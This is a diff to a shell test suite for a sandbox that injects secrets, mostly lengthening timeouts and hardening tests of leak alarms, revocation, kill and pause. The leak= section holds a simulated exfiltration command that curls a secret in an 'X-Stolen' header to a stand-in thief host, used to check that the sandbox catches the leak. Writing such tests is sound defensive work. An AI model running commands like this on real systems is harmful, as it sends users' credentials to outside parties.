@@ -23,14 +23,14 @@ revoke_box() {
 # get BOX URL VARIABLE: status and body.
 get() {
 	# shellcheck disable=SC2016
-	in_box "$1" sh -c 'eval "v=\$$2"; curl -s -m 30 -w " %{http_code}" -H "Authorization: Bearer $v" "$1"' sh "$2" "$3"
+	in_box "$1" sh -c 'eval "v=\$$2"; curl -s -m 60 -w " %{http_code}" -H "Authorization: Bearer $v" "$1"' sh "$2" "$3"
 }
 
 # hold_open ID BOX KIND HOST VARIABLE: a connection that stays; ask ID PATH asks on it, and the answer is $answer.
 declare -A to_fd from_fd
 hold_open() {
 	mkfifo "$work/$1.in" "$work/$1.out"
-	timeout -k 2 200 "$ostiary" exec "$2" -- /usr/bin/python3 hold.py "$3" "$4" "$5" <"$work/$1.in" >"$work/$1.out" 2>"$work/$1.err" &
+	timeout -k 2 600 "$ostiary" exec "$2" -- /usr/bin/python3 hold.py "$3" "$4" "$5" <"$work/$1.in" >"$work/$1.out" 2>"$work/$1.err" &
 	door_pids+=($!)
 	exec {fd}>"$work/$1.in"
 	to_fd[$1]=$fd
@@ -40,7 +40,7 @@ hold_open() {
 ask_only() { echo "$2" >&"${to_fd[$1]}"; }
 hear() {
 	answer=
-	read -r -t 60 answer <&"${from_fd[$1]}" || answer="no answer: $(cat "$work/$1.err")"
+	read -r -t 150 answer <&"${from_fd[$1]}" || answer="no answer: $(cat "$work/$1.err")"
 }
 ask() {
 	ask_only "$1" "$2"
@@ -70,9 +70,9 @@ hold_open held r1 h1 held.one.test ONE
 hold_open held2 r1 h2 held.two.test ONE
 ask_only held /hold
 ask_only held2 /hold
-within 20 grep -aqs "$ONE" "$work/seen/received-held.one.test"
+within 60 grep -aqs "$ONE" "$work/seen/received-held.one.test"
 check "a request is under way" $?
-within 20 grep -aqs "$ONE" "$work/seen/received-held.two.test"
+within 60 grep -aqs "$ONE" "$work/seen/received-held.two.test"
 check "and one on HTTP/2" $?
 
 got=$("$ostiary" revoke r1 ONE 2>&1)
@@ -166,7 +166,7 @@ fresh() {
 	get r4 https://f.one.test/ COUNTED >/dev/null
 	[ "$(grep -ao 'fake-value-[0-9]*-[0-9]*' "$work/seen/received-f.one.test" | sort -u | wc -l)" -ge 2 ]
 }
-within 30 fresh
+within 60 fresh
 check "refresh= asks the source again by the clock" $?
 "$ostiary" rm -f r4 >/dev/null
 
@@ -178,7 +178,7 @@ expired() {
 	ask t /x
 	case $answer in *"ONE has expired"*) true ;; *) false ;; esac
 }
-within 30 expired
+within 60 expired
 check "after its ttl= the answer says expired" $? "$answer"
 holds "and is a refusal" "$answer" "403"
 holds "the list says so" "$("$ostiary" secrets r5 | grep ONE)" "expired"
@@ -194,12 +194,14 @@ keeper=$(for p in $(cat "/proc/$supervisor/task/$supervisor/children"); do grep 
 [ -n "$keeper" ]
 check "a box with a secret has a keeper before its first connection" $? "$(cat "/proc/$supervisor/task/$supervisor/children")"
 kill -9 "$keeper"
-within 10 is_not_running r6
+within 60 is_not_running r6
 check "when it is killed the box is stopped" $? "$("$ostiary" ps)"
 "$ostiary" rm -f r6 >/dev/null
 revoke_box r7
 supervisor=$("$ostiary" ps --json | python3 -c 'import json, sys; d = json.load(sys.stdin); print([b for b in (d if isinstance(d, list) else d["boxes"]) if b["id"] == "r7"][0]["supervisor_pid"])')
-for p in $(cat "/proc/$supervisor/task/$supervisor/children"); do cat "/proc/$p/comm"; done >"$work/children" 2>/dev/null
+children() { for p in $(cat "/proc/$supervisor/task/$supervisor/children"); do cat "/proc/$p/comm"; done >"$work/children" 2>/dev/null; }
+has_audit() { children && grep -q audit "$work/children"; }
+within 60 has_audit
 grep -q audit "$work/children" && ! grep -q keeper "$work/children"
 check "one without has a log and no keeper" $? "$(cat "$work/children")"
 "$ostiary" rm -f r7 >/dev/null
@@ -207,14 +209,14 @@ check "one without has a log and no keeper" $? "$(cat "$work/children")"
 # --- leak= ------------------------------------------------------------------------------------------
 
 # leaked FLAG...: show the placeholder to a host that it is not for.
-leak='curl -s -m 20 -H "X-Stolen: $ONE" https://thief.two.test/ >/dev/null'
+leak='curl -s -m 60 -H "X-Stolen: $ONE" https://thief.two.test/ >/dev/null'
 one() { echo "ONE from env at *.one.test as bearer $1"; }
 leaking() { # NAME OPTIONS COMMAND
-	(cd "$work/ws" && timeout -k 2 60 "$ostiary" run -q --keep -n "$1" --level strict \
+	(cd "$work/ws" && timeout -k 2 200 "$ostiary" run -q --keep -n "$1" --level strict \
 		--allow "* *.one.test:443 to=127.0.0.1:$h1 ca=$work/ca.pem" --allow "* *.two.test:443 to=127.0.0.1:$h2 ca=$work/ca.pem" \
 		--secret "$(one "$2")" -- sh -c "$3" 2>"$work/$1.err")
 }
-code='curl -s -m 20 -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $ONE" https://g.one.test/'
+code='curl -s -m 60 -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $ONE" https://g.one.test/'
 got=$(leaking l1 '' "$leak; $code")
 same "alarm: the box goes on" "$got" 200
 holds "alarm: whoever is attached is told" "$(cat "$work/l1.err")" "alarm: "
@@ -222,25 +224,32 @@ holds "alarm: and again at the end" "$(cat "$work/l1.err")" "1 alarm while the b
 same "alarm: nothing arrived" "$(grep -acs X-Stolen "$work/seen/received-thief.two.test")" ""
 holds "alarm: the log has it" "$("$ostiary" log l1 --json)" '"kind":"alarm"'
 "$ostiary" rm -f l1 >/dev/null
-got=$(leaking l2 leak=revoke "$leak; sleep 1; $code")
+# The alarm is on its way to the keeper when the leak has its answer.
+got=$(leaking l2 leak=revoke "$leak; i=0; while [ \$i -lt 100 ] && [ \"\$($code)\" = 200 ]; do i=\$((i + 1)); sleep 0.2; done; $code")
 same "revoke: the secret is gone" "$got" 403
 holds "revoke: which is told" "$(cat "$work/l2.err")" "leak=revoke"
 "$ostiary" rm -f l2 >/dev/null
-leaking l3 leak=kill "$leak; sleep 50; echo survived" >"$work/l3.out"
+leaking l3 leak=kill "$leak; sleep 150; echo survived" >"$work/l3.out"
 [ ! -s "$work/l3.out" ]
 check "kill: the box is ended" $? "$(cat "$work/l3.out")"
 holds "kill: in a sentence" "$(cat "$work/l3.err")" "leak=kill"
 "$ostiary" rm -f l3 >/dev/null 2>&1
-leaking l4 leak=pause "$leak; echo went on" >"$work/l4.out" &
+leaking l4 leak=pause "$leak; n=0; until [ -e enough ]; do n=\$((n + 1)); echo \$n; sleep 0.1; done; echo went on" >"$work/l4.out" &
 pausing=$!
 paused() { grep -qs leak=pause "$work/l4.err"; }
-within 30 paused
+within 60 paused
 check "pause: whoever is attached is told how to go on" $? "$(cat "$work/l4.err")"
-sleep 1
-[ ! -s "$work/l4.out" ]
-check "pause: nothing goes on" $? "$(cat "$work/l4.out")"
-in_box l4 kill -CONT -1 >/dev/null 2>&1
+# The leak has its answer before everything is stopped: so it may have counted a little.
+is_still() {
+	local before
+	before=$(wc -l <"$work/l4.out")
+	sleep 2
+	[ "$before" = "$(wc -l <"$work/l4.out")" ]
+}
+within 60 is_still
+check "pause: nothing goes on" $? "$(tail -n 3 "$work/l4.out")"
+in_box l4 sh -c 'touch enough; kill -CONT -1' >/dev/null 2>&1
 wait "$pausing"
-same "pause: until somebody says so" "$(cat "$work/l4.out")" "went on"
+same "pause: until somebody says so" "$(tail -n 1 "$work/l4.out")" "went on"
 "$ostiary" rm -f l4 >/dev/null 2>&1
 exit $bad
